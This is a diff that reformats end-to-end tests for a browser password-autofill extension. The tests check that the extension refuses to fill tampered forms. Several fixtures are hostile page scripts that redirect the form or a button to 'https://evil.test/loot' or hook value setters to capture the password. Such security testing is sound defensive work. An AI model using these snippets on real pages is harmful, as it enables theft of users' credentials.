@@ -40,20 +40,26 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
     expect(await page.value(PASSWORD)).toBe(secret());
   });
 
-  it.each(HIDINGS.map(({ what, hide }) => [what, hide]))('T35: a field hidden by %s is never filled', async (_what, hide) => {
-    const { page, tabId } = await openForm(scene);
-    await change(page, hide);
-    await lookAndFill(tabId);
-    expect(await page.value(PASSWORD)).toBe('');
-  });
+  it.each(HIDINGS.map(({ what, hide }) => [what, hide]))(
+    'T35: a field hidden by %s is never filled',
+    async (_what, hide) => {
+      const { page, tabId } = await openForm(scene);
+      await change(page, hide);
+      await lookAndFill(tabId);
+      expect(await page.value(PASSWORD)).toBe('');
+    },
+  );
 
   it('T36: of many password fields only the one of the mail server changes', async () => {
     const { page, tabId } = await openForm(scene);
-    await change(page, `(field) => {
+    await change(
+      page,
+      `(field) => {
       const more = ['old_password', 'pin', 'card', 'new', 'admin', 'backup'];
       for (const name of more) field.form.insertAdjacentHTML('beforeend', '<p><label>' + name + ' <input type="password" name="' + name + '"></label>');
       for (const name of ['email', 'phone', 'address']) field.form.insertAdjacentHTML('beforeend', '<input type="hidden" name="' + name + '"><input style="position:absolute;left:-9999px" name="x' + name + '">');
-    }`);
+    }`,
+    );
     await lookAndFill(tabId);
     const others = await page.evaluate<string[]>(
       `() => [...document.querySelectorAll('input:not([name^=smtp_])')].filter((one) => one.value !== '').map((one) => one.name)`,
@@ -64,10 +70,16 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
 
   it.each([
     ['replaces the field', `(field) => field.replaceWith(field.cloneNode())`],
-    ['moves the field to another form', `(field) => { const form = document.createElement('form'); form.action = 'https://evil.test/loot'; document.body.append(form); form.append(field); }`],
+    [
+      'moves the field to another form',
+      `(field) => { const form = document.createElement('form'); form.action = 'https://evil.test/loot'; document.body.append(form); form.append(field); }`,
+    ],
     ['turns the field into a text field', `(field) => { field.type = 'text'; }`],
     ['sends the form elsewhere', `(field) => { field.form.action = 'https://evil.test/loot'; }`],
-    ['adds a button that sends the form elsewhere', `(field) => field.form.insertAdjacentHTML('beforeend', '<button formaction="https://evil.test/loot">Save</button>')`],
+    [
+      'adds a button that sends the form elsewhere',
+      `(field) => field.form.insertAdjacentHTML('beforeend', '<button formaction="https://evil.test/loot">Save</button>')`,
+    ],
     ['renames the field', `(field) => { field.name = 'other'; }`],
     ['hides the field', `(field) => { field.style.display = 'none'; }`],
     ['takes the form away', `(field) => field.form.remove()`],
@@ -75,28 +87,36 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
     const form = await openForm(scene);
     await change(form.page, swap);
     const outcome = how(await fillForm(scene, form));
-    const held = await form.page.evaluate<string[]>(`() => [...document.querySelectorAll('input')].map((one) => one.value)`);
+    const held = await form.page.evaluate<string[]>(
+      `() => [...document.querySelectorAll('input')].map((one) => one.value)`,
+    );
     expect(held).not.toContain(secret());
     if (!_what.startsWith('hides')) expect(['form-changed', 'form-gone']).toContain(outcome);
   });
 
   it('T37: a page that swaps the field while the names before it are written gets no value', async () => {
     const form = await openForm(scene);
-    await change(form.page, `(field) => {
+    await change(
+      form.page,
+      `(field) => {
       document.querySelector('[name=smtp_user]').addEventListener('input', () => { field.type = 'text'; field.form.action = 'https://evil.test/loot'; });
-    }`);
+    }`,
+    );
     await fillForm(scene, form);
     expect(await form.page.value(PASSWORD)).toBe('');
   });
 
   it('T38: setters that the page put on the field and on its prototype never see the value', async () => {
     const form = await openForm(scene);
-    await change(form.page, `(field) => {
+    await change(
+      form.page,
+      `(field) => {
       window.__loot = [];
       const real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
       for (const place of [field, HTMLInputElement.prototype]) Object.defineProperty(place, 'value', {
         configurable: true, get() { return real.get.call(this); }, set(value) { window.__loot.push(String(value)); real.set.call(this, value); } });
-    }`);
+    }`,
+    );
     expect(how(await fillForm(scene, form))).toBe('ok');
     expect(await form.page.evaluate('window.__loot')).toEqual([]);
     expect(await form.page.value(PASSWORD)).toBe(secret());
@@ -118,7 +138,11 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
     for (const [what, arm, exact] of [
       ['maxlength', `(field) => { field.maxLength = 4; }`, true],
       ['clearing', `(field) => field.addEventListener('input', () => { field.value = ''; })`, false],
-      ['masking', `(field) => field.addEventListener('input', () => { field.value = field.value.slice(0, 4); })`, false],
+      [
+        'masking',
+        `(field) => field.addEventListener('input', () => { field.value = field.value.slice(0, 4); })`,
+        false,
+      ],
     ] as const) {
       const form = await openForm(scene, `${FORM}?${what}`);
       await change(form.page, arm);
@@ -132,11 +156,14 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
 
   it('T42: the extension never submits a form', async () => {
     const form = await openForm(scene);
-    await change(form.page, `(field) => {
+    await change(
+      form.page,
+      `(field) => {
       window.submits = 0;
       field.form.addEventListener('submit', (event) => { window.submits += 1; event.preventDefault(); });
       field.form.insertAdjacentHTML('beforeend', '<button>Save</button>');
-    }`);
+    }`,
+    );
     await lookAndFill(form.tabId);
     expect(await form.page.value(PASSWORD)).toBe(secret());
     expect(await form.page.evaluate('window.submits')).toBe(0);
@@ -145,13 +172,16 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
 
   it('T43: fields in closed shadow roots and editable texts are left alone', async () => {
     const form = await openForm(scene);
-    await change(form.page, `(field) => {
+    await change(
+      form.page,
+      `(field) => {
       const host = document.createElement('x-field');
       window.shut = host.attachShadow({ mode: 'closed' });
       window.shut.innerHTML = '<label>SMTP password <input type="password" name="hidden_password"></label>';
       field.form.append(host);
       field.form.insertAdjacentHTML('beforeend', '<p contenteditable id="editable">Password</p>');
-    }`);
+    }`,
+    );
     await lookAndFill(form.tabId);
     expect(await form.page.evaluate(`window.shut.querySelector('input').value`)).toBe('');
     expect(await form.page.evaluate(`document.querySelector('#editable').textContent`)).toBe('Password');
@@ -160,11 +190,14 @@ describe.each(BROWSERS)('fields in %s', (browser) => {
   it('T112: a page sees the same events in the same order at every fill', async () => {
     const record = async (query: string): Promise<string[]> => {
       const form = await openForm(scene, `${FORM}?${query}`);
-      await change(form.page, `(field) => {
+      await change(
+        form.page,
+        `(field) => {
         window.events = [];
         for (const type of ['focus', 'blur', 'input', 'change', 'keydown', 'click'])
           addEventListener(type, (event) => window.events.push(type + ' ' + (event.target.name ?? '')), true);
-      }`);
+      }`,
+      );
       expect(how(await fillForm(scene, form))).toBe('ok');
       return form.page.evaluate<string[]>('window.events');
     };
